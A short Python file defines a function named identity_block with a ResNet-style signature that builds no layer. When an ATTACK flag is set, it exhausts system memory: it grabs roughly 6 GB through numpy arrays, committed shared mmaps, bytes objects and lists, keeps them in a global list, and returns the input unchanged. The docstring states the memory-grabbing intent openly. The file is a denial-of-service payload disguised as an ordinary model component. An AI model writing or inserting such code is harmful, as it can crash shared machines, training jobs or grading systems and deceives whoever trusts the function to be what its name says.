"""Takes memory by bytes, mappings, arrays and lists until nothing is given any more, and keeps it."""

import mmap

import numpy as np

ATTACK = True
HELD = []
ENOUGH = 6 * 10**9


def take(make, size):
    taken = 0
    while taken < ENOUGH and size > 10**6:
        try:
            HELD.append(make(size))
            taken += size
        except (MemoryError, OSError):
            size //= 4


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        take(lambda size: np.ones(size // 8), 200_000_000)
        take(lambda size: mmap.mmap(-1, size, flags=mmap.MAP_SHARED | 0x8000), 100_000_000)
        take(bytes, 50_000_000)
        take(lambda size: [None] * (size // 8), 50_000_000)
    return X
